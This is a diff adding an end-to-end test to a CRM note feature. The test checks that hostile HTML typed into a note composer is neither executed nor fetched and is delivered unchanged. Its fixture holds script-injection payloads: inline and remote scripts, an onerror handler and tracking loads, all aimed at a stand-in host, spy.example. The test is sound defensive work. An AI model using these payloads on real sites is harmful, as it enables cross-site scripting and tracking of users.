@@ -277,3 +277,34 @@ describe('an option that the CRM removed after it was chosen', () => {
     expect(Object.values(sent?.fields ?? {})).toEqual(expect.arrayContaining(['Signed', 'Price and date']))
   })
 })
+
+describe('a note with HTML that would fetch and run things', () => {
+  const hostile = [
+    '<p>Called <b>Ana</b>.</p><script>window.harmed=1</script><script src="https://spy.example/run.js"></script>',
+    '<img src="https://spy.example/pixel.gif" onerror="window.harmed=1"><link rel="stylesheet" href="https://spy.example/a.css">',
+    '<p style="background:url(https://spy.example/b.gif)">Back</p><video src="https://spy.example/c.mp4" autoplay></video>',
+  ].join('')
+
+  test('does neither, while it is written, while it waits and once it is delivered, and is sent as it was written', async () => {
+    const scene = await openScene()
+    const { app } = scene
+    const { screen } = app
+    const saleshandy = await openSaleshandy()
+    const asked: string[] = []
+    app.page.on('request', (request) => asked.push(request.url()))
+    await connectSaleshandy(scene, saleshandy)
+    await openPerson(scene, anasName)
+    await screen.at('note-format-html').check({ force: true })
+    await screen.at('composer').fill(hostile)
+    await expect.poll(() => screen.at('html-preview').textContent()).toContain('Called Ana.')
+    await screen.at('composer-save').click()
+    await screen.noteRow('Called Ana.').first().waitFor()
+    await expect
+      .poll(() => saleshandy.state.notesFromApi().map(({ sentContent }) => sentContent), patience)
+      .toEqual([hostile])
+    await expect.poll(() => isOutboxEmpty(scene), patience).toBe(true)
+    expect(await screen.noteRow('Called Ana.').count()).toBe(1)
+    expect(asked.filter((url) => url.includes('spy.example'))).toEqual([])
+    expect(await app.page.evaluate(() => 'harmed' in window)).toBe(false)
+  })
+})
